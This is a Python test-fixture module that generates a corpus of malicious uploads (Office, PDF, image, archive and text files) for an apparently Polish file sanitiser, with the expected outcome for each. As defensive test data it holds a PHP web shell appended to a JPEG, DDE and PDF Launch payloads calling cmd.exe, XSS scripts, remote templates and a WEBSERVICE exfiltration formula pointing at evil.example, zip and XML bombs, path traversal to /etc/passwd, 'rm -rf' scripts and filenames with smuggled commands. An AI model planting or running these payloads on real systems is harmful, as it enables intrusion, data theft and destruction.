"""Nasty files, all made here, each with what has to happen to it.

Nothing of anybody else's is kept in the repository: the makers write every byte.
"""

import gzip
import io
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from . import make_offices as office
from . import make_pdfs as pdfs
from . import make_pictures as pictures

#: The test file of the virus industry, in two pieces so that no scanner of a disk
#: takes this module away.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CSV = "osiedle;liczba\nPółnoc;12\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@dataclass(frozen=True)
class Nasty:
    """One file: what is done with it, and what may not be in what is stored.

    ``outcome`` is a kind ("stored as") or the code of a refusal; ``gone`` are words
    that the cleaned file, unpacked, may not hold, ``left`` words that it must.
    """

    what: str
    name: str
    content: Callable[[], bytes]
    outcome: str
    gone: tuple[str, ...] = ()
    left: tuple[str, ...] = ()


def _just(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("../../etc/passwd")
        info.size = 4
        archive.addfile(info, io.BytesIO(b"root"))
    return out.getvalue()


def _zip_bomb() -> bytes:
    inner = office.packed({"0": b"\0" * 20_000_000})
    return office.packed({f"{number}.zip": inner for number in range(16)})


BLANK = "Jan Kowalski"
WEB = [
    Nasty("SVG with a script", "mapa.svg", _just(SVG), "page"),
    Nasty("SVG called a photo", "mapa.jpg", _just(SVG), "page"),
    Nasty("HTML", "raport.html", _just(pictures.SCRIPT), "page"),
    Nasty("HTML called a photo", "raport.jpg", _just(pictures.SCRIPT), "page"),
    Nasty("HTML called text", "raport.txt", _just(b"\n " + pictures.SCRIPT), "page"),
    Nasty("XHTML", "r.xhtml", _just(b"<?xml version='1.0'?><html/>"), "page"),
    Nasty(
        "HTML in UTF-16",
        "r.csv",
        lambda: "<html><script>".encode("utf-16"),
        "page",
    ),
    Nasty(
        "GIF that is a script too",
        "a.gif",
        _just(b"GIF89a=1;alert(1)//\0" + b"\0" * 40),
        "picture_other",
    ),
    Nasty("GIF called JPG", "a.jpg", partial(pictures.picture, "GIF"), "picture_other"),
]
PICTURES = [
    Nasty("plain photo", "zdjęcie.JPG", pictures.jpeg, "jpeg"),
    Nasty(
        "photo with the place, camera and author in EXIF",
        "IMG_2031.jpeg",
        pictures.jpeg_with_exif,
        "jpeg",
        ("Exif", "TajnyAparat", BLANK, "Tajna", "998877"),
    ),
    Nasty(
        "photo with a web page in its comment",
        "a.jpg",
        pictures.jpeg_with_comment,
        "jpeg",
        ("script",),
    ),
    Nasty(
        "photo with words in its profile",
        "a.jpg",
        pictures.jpeg_with_profile,
        "jpeg",
        ("ICC",),
    ),
    Nasty(
        "photo with a zip behind its end",
        "a.jpg",
        lambda: pictures.jpeg() + office.packed({"tajne.txt": "Kowalski"}),
        "jpeg",
        ("PK\3\4", "tajne"),
    ),
    Nasty(
        "photo with a PHP program behind its end",
        "a.php.jpg",
        lambda: pictures.jpeg() + b"<?php system($_GET[0]);",
        "jpeg",
        ("php",),
    ),
    Nasty(
        "two photos in one (MPO)",
        "a.jpg",
        partial(pictures.moving, "MPO"),
        "jpeg",
        ("MPF",),
    ),
    Nasty("photo cut off", "a.jpg", lambda: pictures.jpeg()[:400], "damaged"),
    Nasty("three bytes of a photo", "a.jpg", _just(b"\xff\xd8\xff"), "damaged"),
    Nasty(
        "picture with author, remark, XMP and EXIF",
        "a.png",
        pictures.png_with_words,
        "png",
        ("Kowalski", "tEXt", "zTXt", "iTXt", "eXIf"),
    ),
    Nasty(
        "picture with a web page behind its end",
        "a.png",
        lambda: pictures.png() + pictures.SCRIPT,
        "png",
        ("script",),
    ),
    Nasty(
        "moving PNG: its first frame stays",
        "a.png",
        partial(pictures.moving, "PNG"),
        "png",
        ("acTL", "fdAT"),
    ),
    Nasty("picture of 3,600 megapixels", "a.png", pictures.png_bomb, "pixels"),
    Nasty("200 MB of text in a picture", "a.png", pictures.png_text_bomb, "damaged"),
    Nasty("moving GIF", "a.gif", partial(pictures.moving, "GIF"), "picture_other"),
    Nasty("moving WebP", "a.webp", partial(pictures.moving, "WEBP"), "picture_other"),
    Nasty("TIFF", "skan.tif", partial(pictures.picture, "TIFF"), "picture_other"),
    Nasty("BMP", "a.bmp", partial(pictures.picture, "BMP"), "picture_other"),
    Nasty("icon", "a.ico", partial(pictures.picture, "ICO"), "picture_other"),
    Nasty(
        "HEIC of a telephone",
        "IMG_1.HEIC",
        _just(b"\0\0\0\x24ftypheic" + b"\0" * 64),
        "picture_other",
    ),
    Nasty("film", "a.mp4", _just(b"\0\0\0\x20ftypisom" + b"\0" * 64), "film"),
]
DOCUMENTS = [
    Nasty("plain PDF", "Raport 2025.pdf", pdfs.pdf, "pdf"),
    Nasty(
        "PDF with JavaScript in three places",
        "a.pdf",
        partial(pdfs.pdf, pdfs.with_script),
        "pdf",
        ("JavaScript", "alert", "/JS"),
    ),
    Nasty(
        "PDF that starts a program",
        "a.pdf",
        partial(pdfs.pdf, pdfs.with_launch),
        "pdf",
        ("Launch", "cmd.exe", "javascript", "next()"),
        ("https://example.org/raport",),
    ),
    Nasty(
        "PDF with a program attached",
        "a.pdf",
        partial(pdfs.pdf, pdfs.with_attachment),
        "pdf",
        ("EmbeddedFile", "wykaz-osob", "FileAttachment", "tajne.exe"),
    ),
    Nasty(
        "PDF with author, XMP and a signed remark",
        "a.pdf",
        partial(pdfs.pdf, pdfs.with_author),
        "pdf",
        ("Kowalski", "xmpmeta", "D:2026"),
        ("uwaga",),
    ),
    Nasty(
        "PDF with an XFA form and a signature",
        "a.pdf",
        partial(pdfs.pdf, pdfs.with_form),
        "pdf",
        ("xfa-program", "PESEL", "Kowalski"),
    ),
    Nasty(
        "PDF that is nothing but XFA",
        "a.pdf",
        partial(pdfs.pdf, pdfs.with_dynamic_form),
        "damaged",
    ),
    Nasty(
        "PDF with a photo that says where",
        "a.pdf",
        partial(pdfs.pdf, pdfs.with_photo),
        "pdf",
        ("Exif", "TajnyAparat", BLANK),
    ),
    Nasty(
        "PDF with a film and a form that sends",
        "a.pdf",
        partial(pdfs.pdf, pdfs.with_film),
        "pdf",
        ("RichMedia", "Screen", "evil.example"),
        ("pole",),
    ),
    Nasty(
        "PDF that holds an earlier version",
        "a.pdf",
        pdfs.with_earlier_version,
        "pdf",
        ("Kowalski",),
    ),
    Nasty(
        "PDF with a zip behind its end",
        "a.pdf",
        lambda: pdfs.pdf() + office.packed({"tajne.txt": "Kowalski"}),
        "pdf",
        ("PK\3\4", "tajne"),
    ),
    Nasty(
        "zip with a PDF before it, called docx",
        "a.docx",
        lambda: pdfs.pdf() + office.word(),
        "mismatch",
    ),
    Nasty("PDF with a password", "a.pdf", lambda: pdfs.encrypted("x"), "protected"),
    Nasty("PDF locked for change", "a.pdf", lambda: pdfs.encrypted(""), "protected"),
    Nasty("PDF cut off", "a.pdf", lambda: pdfs.pdf()[:200], "damaged"),
    Nasty("a head of PDF and no more", "a.pdf", _just(b"%PDF-1.7\n"), "damaged"),
    Nasty(
        "PDF of 401 pages", "a.pdf", partial(pdfs.pdf, pdfs.with_many_pages), "pages"
    ),
]
WORD = [
    Nasty("plain Word", "Raport.docx", office.word, "docx", (), ("Raport",)),
    Nasty(
        "Word with authors everywhere",
        "a.docx",
        office.word_with_people,
        "docx",
        ("Kowalski", "Nowak", "44051401359", "2026-01-02", "JK", "00AB12CD"),
        ("popraw", "dopisane"),
    ),
    Nasty(
        "Word that fetches a template",
        "a.docx",
        office.word_with_template,
        "docx",
        ("evil.example", "attachedTemplate", "00AB12CD"),
    ),
    Nasty(
        "Word with a spreadsheet behind a chart",
        "a.docx",
        office.word_with_chart,
        "docx",
        ("Kowalski", "externalData"),
    ),
    Nasty(
        "Word with a photo that says where",
        "a.docx",
        office.word_with_photo,
        "docx",
        ("Exif", "TajnyAparat", BLANK),
    ),
    Nasty(
        "Word with a photo from the network",
        "a.docx",
        partial(office.word_with_photo, "!http://evil.example/p.png"),
        "outside",
    ),
    Nasty(
        "Word with a drawing in EMF",
        "a.docx",
        partial(office.word_with_photo, "media/a.emf", **{"word/media/a.emf": b"\1"}),
        "drawing",
    ),
    Nasty("Word with macros", "a.docx", office.word_with_macros, "macros"),
    Nasty("DOCM", "a.docm", office.word_with_macros, "macros"),
    Nasty(
        "Word with DDE in pieces",
        "a.docx",
        partial(office.word_with_field, r" DDEAUTO c:\\windows\\cmd.exe "),
        "outside",
    ),
    Nasty(
        "Word that takes in a file",
        "a.docx",
        partial(office.word_with_field, r" INCLUDETEXT \\\\evil\\x "),
        "outside",
    ),
    Nasty(
        "Word with a web page inside",
        "a.docx",
        lambda: office.word(
            "", (("rId9", "aFChunk", "a.html"),), {"word/a.html": pictures.SCRIPT}
        ),
        "embedded",
    ),
    Nasty(
        "Word with an OLE object",
        "a.docx",
        lambda: office.word(
            "", (("rId9", "oleObject", "o.bin"),), {"word/o.bin": b"\xd0\xcf"}
        ),
        "embedded",
    ),
    Nasty(
        "Word with the billion laughs",
        "a.docx",
        partial(office.word_with_bomb, office.LAUGHS),
        "strange",
    ),
    Nasty(
        "Word with a foreign entity",
        "a.docx",
        partial(office.word_with_bomb, office.FOREIGN),
        "strange",
    ),
    Nasty("100 MB packed to 100 kB", "a.docx", office.bomb, "too_hard"),
    Nasty("40 MB packed a thousandfold", "a.docx", office.dense, "too_hard"),
    Nasty("5,000 members", "a.docx", office.crowd, "too_hard"),
    Nasty("a link among members", "a.docx", office.with_link_member, "strange"),
    Nasty("two members of one name", "a.docx", office.with_twin_member, "strange"),
    Nasty(
        "absolute member",
        "a.docx",
        partial(office.with_odd_member, "/etc/passwd"),
        "strange",
    ),
    Nasty(
        "member of a folder above",
        "a.docx",
        partial(office.with_odd_member, "word/../../x"),
        "strange",
    ),
    Nasty(
        "member on a drive",
        "a.docx",
        partial(office.with_odd_member, "C:\\x.xml"),
        "strange",
    ),
    Nasty("Word cut off", "a.docx", lambda: office.word()[:-40], "damaged"),
    Nasty(
        "a zip called Word",
        "a.docx",
        lambda: office.packed({"a.txt": "x"}),
        "damaged",
    ),
    Nasty("Excel called Word", "a.docx", office.excel, "mismatch"),
    Nasty("OpenDocument called Word", "a.docx", office.odf, "damaged"),
    Nasty(
        "Word with a password",
        "a.docx",
        _just(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "protected",
    ),
]
SHEETS = [
    Nasty("plain Excel", "dane.xlsx", office.excel, "xlsx"),
    Nasty(
        "Excel that says its printer, disk and user",
        "a.xlsx",
        lambda: office.excel(
            book='<fileSharing userName="Kowalski"/><x15ac:absPath xmlns:x15ac="urn:x" '
            'url="C:\\Users\\Kowalski\\"/>',
            sheet_rels=(("rId1", "printerSettings", "../p.bin"),),
            more={"xl/p.bin": b"Drukarka-Kowalskiego"},
            after='<pageSetup paperSize="9" r:id="rId1"/>',
        ),
        "xlsx",
        ("Kowalski",),
        ('paperSize="9"',),
    ),
    Nasty(
        "Excel with a link to somebody's disk",
        "a.xlsx",
        lambda: office.excel(
            sheet_rels=(("rId1", "hyperlink", "!file:///C:/Users/Kowalski/x"),),
            after='<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>',
        ),
        "xlsx",
        ("Kowalski", "hyperlinks"),
    ),
    Nasty(
        "Excel with signed remarks",
        "a.xlsx",
        lambda: office.excel(
            sheet_rels=(
                ("rId1", "comments", "../comments1.xml"),
                ("rId2", "threadedComment", "../threaded.xml"),
            ),
            more={
                "xl/comments1.xml": f'<comments xmlns="{office.SHEET}"><authors>'
                "<author>Kowalski</author></authors><commentList><comment><text><t>Kowalski:"
                "</t><t>uwaga</t></text></comment></commentList></comments>",
                "xl/threaded.xml": "<x>Kowalski</x>",
            },
        ),
        "xlsx",
        ("Kowalski",),
        ("uwaga",),
    ),
    Nasty(
        "Excel with a hidden sheet",
        "a.xlsx",
        partial(office.excel, state='state="veryHidden"'),
        "hidden_sheet",
    ),
    Nasty(
        "Excel that reads another file",
        "a.xlsx",
        partial(office.excel, rels=(("rId8", "externalLink", "e.xml"),)),
        "outside",
    ),
    Nasty(
        "Excel that reads a database",
        "a.xlsx",
        partial(office.excel, rels=(("rId8", "connections", "c.xml"),)),
        "outside",
    ),
    Nasty(
        "Excel with DDE in a cell",
        "a.xlsx",
        partial(office.excel, "<c r='A1'><f>cmd|'/c calc'!A0</f></c>"),
        "outside",
    ),
    Nasty(
        "Excel that asks the network",
        "a.xlsx",
        partial(office.excel, '<c r="A1"><f>WEBSERVICE("http://e/"&amp;A2)</f></c>'),
        "outside",
    ),
    Nasty(
        "Excel with a pivot table",
        "a.xlsx",
        partial(office.excel, rels=(("rId8", "pivotCacheDefinition", "p.xml"),)),
        "pivot",
    ),
    Nasty(
        "Excel with a macro sheet",
        "a.xlsx",
        partial(office.excel, rels=(("rId8", "xlMacrosheet", "m.xml"),)),
        "macros",
    ),
    Nasty("XLSM", "a.xlsm", office.excel, "macros"),
    Nasty(
        "old Excel", "a.xls", _just(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "old_office"
    ),
]
OPEN = [
    Nasty(
        "OpenDocument with author, printer and thumbnail",
        "a.odt",
        office.odf,
        "odt",
        ("Kowalski", "miniatura"),
        ("Raport",),
    ),
    Nasty(
        "OpenDocument spreadsheet",
        "a.ods",
        partial(office.odf, "ods"),
        "ods",
        ("Kowalski",),
    ),
    Nasty(
        "OpenDocument with a signed remark",
        "a.odt",
        partial(office.odf, inside=office.remark()),
        "odt",
        ("Kowalski", "2026-01-02"),
        ("uwaga",),
    ),
    Nasty(
        "OpenDocument with a photo that says where",
        "a.odt",
        partial(
            office.odf,
            inside='<text:p><draw:frame><draw:image xlink:href="Pictures/a.jpg"/>'
            "</draw:frame></text:p>",
            more={"Pictures/a.jpg": pictures.jpeg_with_exif()},
        ),
        "odt",
        ("Exif", "TajnyAparat"),
    ),
    Nasty(
        "OpenDocument with macros",
        "a.odt",
        partial(office.odf, more={"Basic/Standard/Module1.xml": "<x/>"}),
        "macros",
    ),
    Nasty(
        "OpenDocument that runs when opened",
        "a.odt",
        partial(
            office.odf,
            before='<office:scripts><script:event-listener xlink:href="vnd.sun.star.'
            'script:x"/></office:scripts>',
        ),
        "macros",
    ),
    Nasty(
        "OpenDocument with a picture from the network",
        "a.odt",
        partial(
            office.odf,
            inside='<text:p><draw:image xlink:href="http://evil.example/p.png"/>'
            "</text:p>",
        ),
        "outside",
    ),
    Nasty(
        "OpenDocument with an object",
        "a.odt",
        partial(
            office.odf,
            inside='<text:p><draw:object-ole xlink:href="./Object 1"/></text:p>',
        ),
        "embedded",
    ),
    Nasty(
        "OpenDocument with a hidden table",
        "a.ods",
        partial(
            office.odf,
            "ods",
            before='<office:automatic-styles><style:style style:name="ta1">'
            '<style:table-properties table:display="false"/></style:style>'
            "</office:automatic-styles>",
        ),
        "hidden_sheet",
    ),
    Nasty(
        "OpenDocument with a password",
        "a.odt",
        partial(
            office.odf,
            entries='<manifest:file-entry manifest:full-path="content.xml">'
            "<manifest:encryption-data/></manifest:file-entry>",
        ),
        "protected",
    ),
    Nasty("spreadsheet called text", "a.odt", partial(office.odf, "ods"), "mismatch"),
]
TEXTS = [
    Nasty("CSV", "dane.csv", lambda: CSV.encode(), "csv", (), ("Północ",)),
    Nasty(
        "CSV in UTF-16", "a.csv", lambda: CSV.encode("utf-16"), "csv", (), ("Północ",)
    ),
    Nasty(
        "CSV as Windows writes it",
        "a.csv",
        lambda: CSV.encode("cp1250"),
        "csv",
        (),
        ("Północ",),
    ),
    Nasty(
        "CSV with formulas, kept and never shown",
        "a.csv",
        _just(b"=cmd|'/c calc'!A0;+1;-3.5;@x\n"),
        "csv",
        (),
        ("-3.5",),
    ),
    Nasty("CSV with NUL", "a.csv", _just(b"a;b\0c\n"), "not_text"),
    Nasty("noise called text", "a.txt", _just(bytes(range(128, 256)) * 9), "not_text"),
    Nasty("text with the bell", "a.txt", _just(b"abc\x07\x1b[2J"), "not_text"),
    Nasty("cell of 200,000 letters", "a.csv", _just(b"x" * 200_000), "not_text"),
    Nasty("text", "notatka.txt", lambda: "Zażółć".encode(), "txt", (), ("Zażółć",)),
]
OTHERS = [
    Nasty("nothing", "a.pdf", _just(b""), "empty"),
    Nasty("one byte", "a.pdf", _just(b"%"), "mismatch"),
    Nasty("no ending", "raport", pdfs.pdf, "no_extension"),
    Nasty("PDF called JPG", "a.jpg", pdfs.pdf, "mismatch"),
    Nasty("JPG called PDF", "a.pdf", pictures.jpeg, "mismatch"),
    Nasty("PNG called JPG", "a.jpg", pictures.png, "mismatch"),
    Nasty("program", "a.exe", _just(b"MZ\x90\0" + b"\0" * 99), "program"),
    Nasty("program called PDF", "a.pdf", _just(b"MZ\x90\0" + b"\0" * 99), "program"),
    Nasty("two endings", "faktura.pdf.exe", pdfs.pdf, "program"),
    Nasty("ELF", "a", _just(b"\x7fELF" + b"\0" * 99), "program"),
    Nasty("shell script", "a.sh", _just(b"#!/bin/sh\nrm -rf /\n"), "program"),
    Nasty(
        "shell script called text", "a.txt", _just(b"#!/bin/sh\nrm -rf /\n"), "program"
    ),
    Nasty("batch file", "a.bat", _just(b"@echo off\r\ndel *.*\r\n"), "program"),
    Nasty("RTF", "a.rtf", _just(b"{\\rtf1 {\\object}}"), "old_office"),
    Nasty(
        "old Word", "a.doc", _just(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "old_office"
    ),
    Nasty("letter", "a.eml", _just(b"Return-Path: <a@example.org>\n"), "letter"),
    Nasty("calendar", "a.ics", _just(b"BEGIN:VCALENDAR\nEND:VCALENDAR\n"), "letter"),
    Nasty("tar", "a.tar", _tar, "archive"),
    Nasty("7z", "a.7z", _just(b"7z\xbc\xaf\x27\x1c" + b"\0" * 30), "archive"),
    Nasty("gzip", "a.csv.gz", lambda: gzip.compress(CSV.encode()), "archive"),
    Nasty("rar", "a.rar", _just(b"Rar!\x1a\x07\0"), "archive"),
    Nasty("zip bomb in zips", "a.zip", _zip_bomb, "archive"),
    Nasty("zip bomb called Excel", "a.xlsx", _zip_bomb, "damaged"),
    Nasty("presentation", "a.pptx", office.word, "office_other"),
    Nasty(
        "10 MB and a byte", "a.txt", lambda: b"x" * (10 * 1024 * 1024 + 1), "too_large"
    ),
]
NAMES = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("/etc/passwd.pdf", "passwd.pdf"),
    ("C:\\Users\\Jan\\raport.pdf", "raport.pdf"),
    ("raport\0.pdf", "raport.pdf"),
    ('a"\r\nSet-Cookie: x=1.pdf', "a_Set-Cookie_ x=1.pdf".replace("=", "_")),
    ("raport\u202efdp.exe.pdf", "raportfdp_exe.pdf"),
    ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
    ("CON.pdf", "plik_CON.pdf"),
    ("nul.tar.pdf", "nul_tar.pdf"),
    ("😀🎉.pdf", "plik.pdf"),
    ("raport.pdf...", "raport.pdf"),
    (".htaccess.pdf", "htaccess.pdf"),
    ("a／b∕c.pdf", "b_c.pdf"),
    ("<img src=x onerror=alert(1)>.pdf", "img src_x onerror_alert(1).pdf"),
    ("Żółć – notatka (2).PDF", "Żółć _ notatka (2).pdf"),
    ("a;rm -rf ~.pdf", "a_rm -rf.pdf"),
    (".pdf", "pdf.pdf"),
]
NAMED = [Nasty(f"name {name!r:.40}", name, pdfs.pdf, "pdf") for name, _kept in NAMES]
CORPUS = WEB + PICTURES + DOCUMENTS + WORD + SHEETS + OPEN + TEXTS + OTHERS + NAMED
